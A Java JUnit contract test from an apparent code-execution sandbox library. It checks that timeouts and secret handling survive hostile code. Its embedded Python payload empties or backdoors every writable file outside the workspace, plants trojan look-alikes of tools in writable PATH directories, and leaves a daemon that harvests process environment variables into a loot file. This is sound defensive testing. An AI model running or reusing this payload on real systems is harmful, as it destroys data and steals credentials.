package dev.exxec.testkit;

import static dev.exxec.testkit.Outcomes.describe;
import static dev.exxec.testkit.Outcomes.succeeded;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.exxec.Code;
import dev.exxec.Command;
import dev.exxec.ErrorTypes;
import dev.exxec.ExecutionEnvironment;
import dev.exxec.ExecutionResult;
import dev.exxec.Isolation;
import dev.exxec.Language;
import java.time.Duration;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * Hostile code against the environment's own machinery (issue 13, finding 7): whatever runs the next
 * call, kills it at its deadline or hands it its variables must not be the code's to change. The
 * code, as whatever user the environment gives it, rewrites every file outside its workspace and
 * {@code /tmp} that it can open for writing (a script then records the variables it is run with and,
 * if it kills, kills nothing; any other file is emptied), puts look-alikes of common tools in every
 * directory of {@code PATH} it can write, and leaves a daemon that copies the variables of every
 * process it can read. Then a call that is given a secret and loops forever must still end with
 * {@code TimeoutError} at its deadline, its loop really dead, and the secret must not be anywhere the
 * first call's leftovers could read afterwards.
 *
 * <p>Like {@link HostileContract}, the area runs only on environments that declare isolation {@link
 * Isolation#OS_SANDBOX} or stronger, with the same small limits. Each case makes an environment of
 * its own: what the attack breaks must not spill into another area.
 */
abstract class HostileHelpersContract extends HostileArea {
    /** The variable the next call is given; an attacker may well know its name. */
    private static final String SECRET_NAME = "EXXEC_KIT_SECRET";

    /**
     * The attack: ATTACK_LOOT is where what it captures goes (in the workspace, which outlives calls);
     * prints a summary of what it changed.
     */
    private static final String ATTACK = """
            import os, shutil, signal, sys, time

            workspace = os.path.realpath(os.getcwd())
            loot = os.path.join(workspace, ATTACK_LOOT)
            skip = {"/proc", "/sys", "/dev", "/tmp", workspace, os.path.realpath("/tmp")}
            record = "(env; echo) >> '%s' 2>/dev/null\\n" % loot
            rewritten, shadowed = [], []
            deadline = time.monotonic() + 40
            complete = True

            def attack(path):
                try:
                    with open(path, "rb") as f:
                        body = f.read(1 << 20)
                except OSError:
                    body = b""
                name = os.path.basename(path)
                try:
                    if body.startswith(b"#!") or name.endswith(".sh"):
                        if "kill" in name:
                            # a killer that kills nothing
                            new = ("#!/bin/sh\\n" + record + "exit 0\\n").encode()
                        else:
                            # a runner that records what it is given, then does its job
                            rest = body.split(b"\\n", 1)[1] if body.startswith(b"#!") else body
                            new = ("#!/bin/sh\\n" + record).encode() + rest
                        with open(path, "r+b") as f:
                            f.write(new)
                            f.truncate()
                    else:
                        with open(path, "r+b") as f:
                            f.truncate(0)
                    rewritten.append(path)
                except OSError:
                    pass

            stack = ["/"]
            while stack:
                if time.monotonic() > deadline:
                    complete = False
                    break
                directory = stack.pop()
                try:
                    entries = list(os.scandir(directory))
                except OSError:
                    continue
                for entry in entries:
                    if entry.path in skip:
                        continue
                    try:
                        if entry.is_dir(follow_symlinks=False):
                            stack.append(entry.path)
                        elif entry.is_file(follow_symlinks=False) and os.access(entry.path, os.W_OK):
                            attack(entry.path)
                    except OSError:
                        pass

            tools = ["sh", "bash", "dash", "env", "python3", "python", "node", "sleep", "kill", "setsid",
                     "cat", "ls", "ps", "timeout", "id", "date", "rm", "mv", "mkdir", "stat", "readlink"]
            for directory in os.environ.get("PATH", "").split(":"):
                if not directory or not os.path.isdir(directory) or not os.access(directory, os.W_OK | os.X_OK):
                    continue
                for tool in tools:
                    target = os.path.join(directory, tool)
                    if os.path.lexists(target):
                        continue
                    real = shutil.which(tool)
                    body = "#!/bin/sh\\n" + record + ('exec %s "$@"\\n' % real if real else "exit 0\\n")
                    try:
                        fd = os.open(target, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)
                        os.write(fd, body.encode())
                        os.close(fd)
                        shadowed.append(target)
                    except OSError:
                        pass

            # A daemon (setsid, double fork) that copies the variables of every process it can read.
            first = os.fork()
            if first == 0:
                os.setsid()
                if os.fork():
                    os._exit(0)
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                end = time.monotonic() + 120
                seen = set()
                while time.monotonic() < end:
                    for pid in os.listdir("/proc"):
                        if not pid.isdigit() or pid in seen:
                            continue
                        try:
                            with open("/proc/%s/environ" % pid, "rb") as f:
                                variables = f.read()
                        except OSError:
                            continue
                        if b"SECRET" in variables:
                            seen.add(pid)
                            with open(loot, "ab") as f:
                                f.write(variables.replace(b"\\0", b"\\n") + b"\\n")
                    time.sleep(0.002)
                os._exit(0)
            os.waitpid(first, 0)
            print("rewritten %d files (walk complete: %s): %s" % (len(rewritten), complete, rewritten[:40]))
            print("shadowed %d tools: %s" % (len(shadowed), shadowed[:40]))
            _result = len(rewritten) + len(shadowed)
            """;

    /** Loops forever, appending to HEARTBEAT every 100 ms; it has the secret in its variables. */
    private static final String LOOP = """
            import os, time
            beat = os.open(HEARTBEAT, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
            while True:
                os.write(beat, b"beat\\n")
                time.sleep(0.1)
            """;

    /**
     * Looks for the secret NEEDLE in every file of the places the first call's leftovers could read;
     * returns the paths.
     */
    private static final String SEARCH = """
            import os
            needle = NEEDLE.encode()
            workspace = os.path.realpath(os.getcwd())
            found = []
            for top in (workspace, "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
                for directory, _, names in os.walk(top):
                    for name in names:
                        path = os.path.join(directory, name)
                        try:
                            if not os.path.isfile(path) or os.path.islink(path):
                                continue
                            with open(path, "rb") as f:
                                if needle in f.read(16 << 20):
                                    found.append(path)
                        except OSError:
                            pass
            _result = sorted(set(found))
            """;

    HostileHelpersContract(EnvironmentFactory factory) {
        super(factory);
    }

    /**
     * The whole attack, then a Python call and a shell command that each get the secret and loop
     * until their deadline, then a search for the secret.
     */
    @Test
    void rewrittenHelpersNeitherSpareTheNextCallNorLearnItsSecret() throws InterruptedException {
        assumeLanguage(Language.PYTHON);
        assumeTrue(caps().files(), "the environment does not declare files");
        ExecutionEnvironment env = limited(Map.of());
        String prefix = "helpers-" + UUID.randomUUID() + "-";
        String secret = "exxec-kit-secret-" + UUID.randomUUID();
        ExecutionResult attack =
                succeeded(env.execute(Code.python(pythonHidden(Map.of("ATTACK_LOOT", prefix + "loot"), ATTACK))
                        .withTimeout(Duration.ofSeconds(60))));
        String attacked = attack.stdout();

        Duration timeout = Duration.ofSeconds(3);
        String codeBeat = prefix + "code.hb";
        long start = System.nanoTime();
        ExecutionResult code = env.execute(Code.python(pythonHidden(Map.of("HEARTBEAT", codeBeat), LOOP))
                .withEnv(Map.of(SECRET_NAME, secret))
                .withTimeout(timeout));
        Duration took = Duration.ofNanos(System.nanoTime() - start);
        assertThat(code.errorType())
                .as("the looping code after the attack (%s): %s", attacked, describe(code))
                .isEqualTo(ErrorTypes.TIMEOUT);
        assertThat(took).as("the looping code's end: %s", describe(code)).isLessThan(timeout.plus(SLACK));
        assertBeatStops(env, codeBeat, () -> "the looping code after its deadline; the attack: " + attacked);

        if (caps().commands()) {
            String commandBeat = prefix + "command.hb";
            start = System.nanoTime();
            ExecutionResult command =
                    env.executeCommand(Command.of("while :; do echo beat >> " + commandBeat + "; sleep 0.1; done")
                            .withEnv(Map.of(SECRET_NAME, secret))
                            .withTimeout(timeout));
            took = Duration.ofNanos(System.nanoTime() - start);
            assertThat(command.errorType())
                    .as("the looping command after the attack (%s): %s", attacked, describe(command))
                    .isEqualTo(ErrorTypes.TIMEOUT);
            assertThat(took)
                    .as("the looping command's end: %s", describe(command))
                    .isLessThan(timeout.plus(SLACK));
            assertBeatStops(env, commandBeat, () -> "the looping command after its deadline; the attack: " + attacked);
        }

        ExecutionResult search = succeeded(env.execute(
                Code.python(pythonHidden(Map.of("NEEDLE", secret), SEARCH)).withTimeout(Duration.ofSeconds(30))));
        assertThat(search.result())
                .as("files holding the secret after the attack (%s)", attacked)
                .isEqualTo(java.util.List.of());
        env.close();
    }
}
